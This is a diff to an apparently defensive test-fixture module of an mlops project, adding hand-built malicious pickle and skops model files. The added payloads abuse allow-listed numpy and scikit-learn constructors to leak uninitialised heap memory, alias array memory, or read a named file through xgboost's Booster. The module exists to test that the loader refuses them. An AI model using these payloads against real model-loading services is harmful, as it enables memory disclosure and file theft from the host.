@@ -4,28 +4,36 @@ the gadgets found while building the allow list, rebuilt as hostile model files.
 Every entry builds a file whose payload would create a *canary* file (``effect="canary"``),
 read a file the request names and return its contents in the predictions (``"read"``: the
 canary is then the secret file), crash the interpreter with memory corruption
-(``"crash"``), or misbehave in a way that has no observable side effect in a test
-(``"none"``). ``trigger`` says when the payload runs with the library's own loader: at
-``load`` or at ``predict`` (with ``predict_input`` when the request itself carries the
-target, e.g. a file path). The test module proves the payloads are live (in a subprocess,
-with the unsafe loaders) and that mlops refuses them.
+(``"crash"``), hand out uninitialised heap memory of the loading process that predictions
+then reveal (``"leak"``), alias one array's memory from another (``"alias"``: a later write
+to one changes the other after the checks), or misbehave in a way that has no observable
+side effect in a test (``"none"``). ``trigger`` says when the payload runs with the
+library's own loader: at ``load`` or at ``predict`` (with ``predict_input`` when the request
+itself carries the target, e.g. a file path). The test module proves the payloads are live
+(in a subprocess, with the unsafe loaders) and that mlops refuses them.
 
-The last group is built from allow-listed names only: scikit-learn classes that act on
+The last groups are built from allow-listed names only: scikit-learn classes that act on
 their *state* at predict time (a red-team finding): ``StackingRegressor`` calling
 ``getattr(est, meth)(X)`` with a bytes array as ``est`` and ``"tofile"`` as ``meth``,
 instance attributes shadowing methods, a ``Bunch`` standing in for an estimator,
-``CountVectorizer(input="filename")``, and the gadgets found while closing them.
+``CountVectorizer(input="filename")``, and the gadgets found while closing them; and numpy
+arrays constructed directly (``numpy.ndarray`` by REDUCE, NEWOBJ, NEWOBJ_EX with
+``buffer=``, INST and OBJ, through a ``partial``, the reconstructors with a real shape,
+shared buffers, and the skops nodes that call an array class), which hand out
+uninitialised memory or alias another array's.
 """
 
 from __future__ import annotations
 
 import copyreg
 import io
+import json
 import marshal
 import operator
 import os
 import pickle
 import struct
+import zipfile
 from collections.abc import Callable
 from dataclasses import dataclass
 from functools import partial
@@ -37,7 +45,8 @@ import numpy as np
 
 from tests.flavors.opcodes import b, call, g, i, lst, proto, sg, tup, u
 
-__all__ = ["BYPASSES", "EXT_CODE", "Bypass", "register_ext", "unregister_ext"]
+__all__ = ["BYPASSES", "EXT_CODE", "LEAK_N", "LEAK_VALUE", "Bypass", "register_ext",
+           "unregister_ext"]
 
 #: copyreg extension code used by the EXT bypass (registered only inside that test).
 EXT_CODE = 0x4D4C
@@ -433,6 +442,239 @@ def _setitem_into_array(canary: Path) -> tuple[str, bytes]:
 
 
 # --------------------------------------------------------------------------------------
+# numpy arrays constructed directly: uninitialised memory and aliased memory (allow-listed
+# names only). Legitimate files rebuild arrays with ``_reconstruct(cls, (0,), "b")`` +
+# ``__setstate__``, ``_frombuffer(bytes)`` or joblib's NumpyArrayWrapper (skops: np.load).
+
+#: Length of the leaking ``coef_`` (800 bytes of float64: numpy serves allocations that
+#: small from a cache of freed buffers, so the payload gets memory the process used before).
+LEAK_N = 100
+#: What the liveness harness leaves in freed memory before loading a "leak" payload.
+LEAK_VALUE = 7.25
+_MEMO = 4000  # memo slots of the hand-written streams (far from the pickler's own)
+
+
+def _f8(value: float) -> bytes:
+    return pickle.BINFLOAT + struct.pack(">d", value)
+
+
+def _put(index: int) -> bytes:
+    return pickle.LONG_BINPUT + struct.pack("<I", index)
+
+
+def _get(index: int) -> bytes:
+    return pickle.LONG_BINGET + struct.pack("<I", index)
+
+
+def _linear(coef: bytes, n: int = LEAK_N, extra: bytes = b"") -> tuple[str, bytes]:
+    """A fitted LinearRegression written by hand whose ``coef_`` is what ``coef`` pushes
+    (``extra``: more attributes); ``predict(eye(n))`` returns ``coef_`` itself."""
+    import sklearn
+
+    state = (u("fit_intercept") + pickle.NEWTRUE + u("copy_X") + pickle.NEWTRUE
+             + u("tol") + _f8(1e-6) + u("n_jobs") + pickle.NONE + u("positive")
+             + pickle.NEWFALSE + u("n_features_in_") + i(n) + u("coef_") + coef
+             + u("rank_") + i(n) + u("intercept_") + _f8(0.0) + extra
+             + u("_sklearn_version") + u(sklearn.__version__))
+    return _pkl(sg("sklearn.linear_model._base", "LinearRegression") + pickle.EMPTY_TUPLE
+                + pickle.NEWOBJ + pickle.EMPTY_DICT + pickle.MARK + state + pickle.SETITEMS
+                + pickle.BUILD)
+
+
+def _eye(canary: Path) -> list[list[float]]:
+    """The request that reads ``coef_`` back: one unit row per feature."""
+    return np.eye(LEAK_N).tolist()
+
+
+_NDARRAY = sg("numpy", "ndarray")
+_SHAPE = tup(i(LEAK_N))
+
+
+def _ndarray_reduce(canary: Path) -> tuple[str, bytes]:
+    # numpy.ndarray((100,), "f8"): 800 bytes nobody initialised.
+    return _linear(call(_NDARRAY, _SHAPE, u("f8")))
+
+
+def _ndarray_newobj(canary: Path) -> tuple[str, bytes]:
+    # ndarray.__new__(ndarray, (100,), "f8")
+    return _linear(_NDARRAY + tup(_SHAPE, u("f8")) + pickle.NEWOBJ)
+
+
+def _ndarray_inst(canary: Path) -> tuple[str, bytes]:
+    return _linear(pickle.MARK + _SHAPE + u("f8") + pickle.INST + b"numpy\nndarray\n")
+
+
+def _ndarray_obj(canary: Path) -> tuple[str, bytes]:
+    return _linear(pickle.MARK + _NDARRAY + _SHAPE + u("f8") + pickle.OBJ)
+
+
+def _partial_ndarray(canary: Path) -> tuple[str, bytes]:
+    # partial(numpy.ndarray, (100,), "f8")(): the partial calls the class, not the file.
+    made = call(sg("functools", "partial"), _NDARRAY, _SHAPE, u("f8"))
+    return _linear(made + pickle.EMPTY_TUPLE + pickle.REDUCE)
+
+
+def _partial_ndarray_obj(canary: Path) -> tuple[str, bytes]:
+    made = call(sg("functools", "partial"), _NDARRAY, _SHAPE, u("f8"))
+    return _linear(pickle.MARK + made + pickle.OBJ)
+
+
+def _partial_booster(canary: Path) -> tuple[str, bytes]:
+    # The same route around NO_CALL_CLASSES: Booster(model_file=...) through a partial.
+    made = call(sg("functools", "partial"), sg("xgboost.core", "Booster"), pickle.NONE,
+                pickle.NONE, u(str(canary)))
+    return _pkl(made + pickle.EMPTY_TUPLE + pickle.REDUCE)
+
+
+def _checked_coef(n: int = LEAK_N) -> bytes:
+    """A legitimate float64 ``coef_`` (``_reconstruct`` + ``__setstate__``), memoized."""
+    raw = struct.pack(f"<{n}d", *range(n))
+    return _array(_dtype("f8", "<", 0), (n,), raw) + _put(_MEMO)
+
+
+def _ndarray_newobj_ex_buffer(canary: Path) -> tuple[str, bytes]:
+    # ndarray.__new__(ndarray, shape=(100,), dtype="f8", buffer=coef_): singular_ is a
+    # second, writable view of coef_'s memory.
+    kwargs = (pickle.EMPTY_DICT + pickle.MARK + u("shape") + _SHAPE + u("dtype") + u("f8")
+              + u("buffer") + _get(_MEMO) + pickle.SETITEMS)
+    alias = _NDARRAY + pickle.EMPTY_TUPLE + kwargs + pickle.NEWOBJ_EX
+    return _linear(_checked_coef(), extra=u("singular_") + alias)
+
+
+def _reconstruct_shape(canary: Path) -> tuple[str, bytes]:
+    # The legitimate reconstructor with a real shape and no __setstate__ after it.
+    return _linear(call(sg("numpy._core.multiarray", "_reconstruct"), _NDARRAY, _SHAPE,
+                        u("f8")))
+
+
+def _mareconstruct_shape(canary: Path) -> tuple[str, bytes]:
+    masked = call(sg("numpy.ma.core", "_mareconstruct"), sg("numpy.ma", "MaskedArray"),
+                  _NDARRAY, _SHAPE, u("f8"))
+    return _linear(_checked_coef(), extra=u("singular_") + masked)
+
+
+def _reconstructor_ndarray_base(canary: Path) -> tuple[str, bytes]:
+    # Protocol 0/1 objects: copyreg._reconstructor(cls, base, state) is
+    # base.__new__(cls, state), here ndarray.__new__(ndarray, (100,)).
+    return _linear(call(sg("copyreg", "_reconstructor"), _NDARRAY, _NDARRAY, _SHAPE))
+
+
+def _masked_array_call(canary: Path) -> tuple[str, bytes]:
+    # MaskedArray(coef_) keeps coef_'s memory as its data (copy=False).
+    alias = call(sg("numpy.ma", "MaskedArray"), _get(_MEMO))
+    return _linear(_checked_coef(), extra=u("singular_") + alias)
+
+
+def _f8_dtype() -> bytes:
+    return _dtype("f8", "<", 0)
+
+
+def _frombuffer_of_array(canary: Path) -> tuple[str, bytes]:
+    # _frombuffer takes any buffer: another array's memory too.
+    alias = call(sg("numpy._core.numeric", "_frombuffer"), _get(_MEMO), _f8_dtype(),
+                 _SHAPE, u("C"))
+    return _linear(_checked_coef(), extra=u("singular_") + alias)
+
+
+def _frombuffer_shared_bytearray(canary: Path) -> tuple[str, bytes]:
+    # Two protocol-5 arrays over the same (memoized) bytearray.
+    memory = pickle.BYTEARRAY8 + struct.pack("<Q", 8 * LEAK_N) + b"\x00" * (8 * LEAK_N)
+
+    def view(buf: bytes) -> bytes:
+        return call(sg("numpy._core.numeric", "_frombuffer"), buf, _f8_dtype(), _SHAPE,
+                    u("C"))
+    return _linear(view(memory + _put(_MEMO)), extra=u("singular_") + view(_get(_MEMO)))
+
+
+def _setstate_shared_bytes(canary: Path) -> tuple[str, bytes]:
+    # ndarray.__setstate__ keeps (does not copy) raw data over 1000 bytes: two arrays
+    # built from the same memoized bytes share it, and both are writable.
+    n = 2 * LEAK_N
+    raw = b(struct.pack(f"<{n}d", *range(n))) + _put(_MEMO)
+    state = tup(i(1), tup(i(n)), _f8_dtype(), pickle.NEWFALSE, raw)
+    again = tup(i(1), tup(i(n)), _f8_dtype(), pickle.NEWFALSE, _get(_MEMO))
+    empty = call(sg("numpy._core.multiarray", "_reconstruct"), _NDARRAY, tup(i(0)), b(b"b"))
+    return _linear(empty + state + pickle.BUILD, n,
+                   extra=u("singular_") + empty + again + pickle.BUILD)
+
+
+# ---- the same in skops files (hand-edited schema.json)
+
+
+def _json(value: Any) -> dict[str, Any]:
+    return {"__class__": type(value).__name__, "__module__": "builtins",
+            "__loader__": "JsonNode", "content": json.dumps(value), "is_json": True}
+
+
+def _node(loader: str, cls: str, module: str, **fields: Any) -> dict[str, Any]:
+    return {"__class__": cls, "__module__": module, "__loader__": loader, **fields}
+
+
+def _tuple(*items: dict[str, Any]) -> dict[str, Any]:
+    return _node("TupleNode", "tuple", "builtins", content=list(items))
+
+
+def _skops_linear(edit: Callable[[dict[str, Any]], None]) -> tuple[str, bytes]:
+    """A fitted LinearRegression saved with skops, its attribute nodes edited."""
+    import skops.io as sio
+    from sklearn.linear_model import LinearRegression
+
+    lr = LinearRegression().fit(np.eye(LEAK_N)[:4], np.arange(4.0))
+    lr.intercept_ = 0.0  # predict(eye(n)) is coef_ itself
+    data = sio.dumps(lr)
+    with zipfile.ZipFile(io.BytesIO(data)) as src:
+        schema = json.loads(src.read("schema.json"))
+        files = {name: src.read(name) for name in src.namelist() if name != "schema.json"}
+    edit(schema["content"]["content"])
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as dst:
+        dst.writestr("schema.json", json.dumps(schema))
+        for name, blob in files.items():
+            dst.writestr(name, blob)
+    return "model.skops", out.getvalue()
+
+
+def _cached(node: dict[str, Any]) -> dict[str, Any]:
+    return _node("CachedNode", node["__class__"], node["__module__"], __id__=node["__id__"])
+
+
+def _skops_list_node(canary: Path) -> tuple[str, bytes]:
+    # ListNode calls its class with the list: numpy.ndarray([100]).
+    def edit(attrs: dict[str, Any]) -> None:
+        attrs["coef_"] = _node("ListNode", "ndarray", "numpy", content=[_json(LEAK_N)])
+    return _skops_linear(edit)
+
+
+def _skops_loss_node(canary: Path) -> tuple[str, bytes]:
+    # LossNode calls the class it names with its reduce arguments.
+    def edit(attrs: dict[str, Any]) -> None:
+        empty = _node("DictNode", "dict", "builtins", content={},
+                      key_types=_node("ListNode", "list", "builtins", content=[]))
+        attrs["coef_"] = _node("LossNode", "ndarray", "numpy",
+                               __reduce__={"args": _tuple(_json(LEAK_N))}, content=empty)
+    return _skops_linear(edit)
+
+
+def _skops_constructor_buffer(canary: Path) -> tuple[str, bytes]:
+    # ConstructorFromReduceNode: numpy.ndarray(4, "f8", coef_) views coef_'s memory.
+    def edit(attrs: dict[str, Any]) -> None:
+        attrs["singular_"] = _node("ConstructorFromReduceNode", "ndarray", "numpy",
+                                   content=_tuple(_json(4), _json("f8"),
+                                                  _cached(attrs["coef_"])))
+    return _skops_linear(edit)
+
+
+def _skops_masked_array_shared_data(canary: Path) -> tuple[str, bytes]:
+    # MaskedArrayNode builds MaskedArray(data, mask): data that is another array of the
+    # file (a CachedNode) is kept, not copied.
+    def edit(attrs: dict[str, Any]) -> None:
+        attrs["singular_"] = _node("MaskedArrayNode", "MaskedArray", "numpy.ma",
+                                   content={"data": _cached(attrs["coef_"]),
+                                            "mask": _json(False)})
+    return _skops_linear(edit)
+
+
+# --------------------------------------------------------------------------------------
 # skops
 
 
@@ -690,6 +932,7 @@ _RT = "mlops red team (/tmp/redteam)"
 _SKOPS_FUNC = "https://www.tenable.com/cve/CVE-2024-37065"
 _PS = "https://github.com/mmaitre314/picklescan"
 _FK = "https://github.com/trailofbits/fickling"
+_ARR = "found while closing direct numpy.ndarray construction (uninitialised/aliased memory)"
 
 BYPASSES: list[Bypass] = [
     Bypass("numpy_wrapfunc_exec_chain", "mlops REFERENCE.md (numpy _wrapfunc gadget)",
@@ -825,6 +1068,43 @@ BYPASSES: list[Bypass] = [
            effect="crash", trigger="predict"),
     Bypass("instance_array_interface_memory_access", "found while closing the red-team "
            "finding", _instance_array_interface, effect="crash", trigger="predict"),
+    # numpy arrays constructed directly (allow-listed names only)
+    Bypass("numpy_ndarray_reduce_uninitialised_memory", _ARR, _ndarray_reduce, effect="leak",
+           trigger="predict", predict_input=_eye),
+    Bypass("numpy_ndarray_newobj_uninitialised_memory", _ARR, _ndarray_newobj, effect="leak",
+           trigger="predict", predict_input=_eye),
+    Bypass("numpy_ndarray_inst_uninitialised_memory", _ARR, _ndarray_inst, effect="leak",
+           trigger="predict", predict_input=_eye),
+    Bypass("numpy_ndarray_obj_uninitialised_memory", _ARR, _ndarray_obj, effect="leak",
+           trigger="predict", predict_input=_eye),
+    Bypass("functools_partial_of_ndarray_uninitialised_memory", _ARR, _partial_ndarray,
+           effect="leak", trigger="predict", predict_input=_eye),
+    Bypass("functools_partial_of_ndarray_obj_uninitialised_memory", _ARR,
+           _partial_ndarray_obj, effect="leak", trigger="predict", predict_input=_eye),
+    Bypass("functools_partial_of_booster_reads_file", _ARR, _partial_booster, effect="none"),
+    Bypass("numpy_ndarray_newobj_ex_buffer_aliases_array", _ARR, _ndarray_newobj_ex_buffer,
+           effect="alias"),
+    Bypass("numpy_reconstruct_with_a_shape_uninitialised_memory", _ARR, _reconstruct_shape,
+           effect="leak", trigger="predict", predict_input=_eye),
+    Bypass("numpy_mareconstruct_with_a_shape_uninitialised_memory", _ARR,
+           _mareconstruct_shape, effect="none"),
+    Bypass("copyreg_reconstructor_ndarray_base_uninitialised_memory", _ARR,
+           _reconstructor_ndarray_base, effect="leak", trigger="predict", predict_input=_eye),
+    Bypass("numpy_masked_array_call_aliases_array", _ARR, _masked_array_call, effect="alias"),
+    Bypass("numpy_frombuffer_of_an_array_aliases_it", _ARR, _frombuffer_of_array,
+           effect="alias"),
+    Bypass("numpy_frombuffer_shared_bytearray_aliases_arrays", _ARR,
+           _frombuffer_shared_bytearray, effect="alias"),
+    Bypass("numpy_setstate_shared_bytes_aliases_arrays", _ARR, _setstate_shared_bytes,
+           effect="alias"),
+    Bypass("skops_list_node_ndarray_uninitialised_memory", _ARR, _skops_list_node,
+           effect="leak", trigger="predict", predict_input=_eye),
+    Bypass("skops_loss_node_ndarray_uninitialised_memory", _ARR, _skops_loss_node,
+           effect="leak", trigger="predict", predict_input=_eye),
+    Bypass("skops_constructor_node_ndarray_buffer_aliases_array", _ARR,
+           _skops_constructor_buffer, effect="alias"),
+    Bypass("skops_masked_array_node_shares_another_arrays_data", _ARR,
+           _skops_masked_array_shared_data, effect="alias"),
     Bypass("defaultdict_factory_class", "found while closing the red-team finding",
            _defaultdict_factory, effect="none", static=False),
     Bypass("bunch_as_the_model", "found while closing the red-team finding", _bad_root,
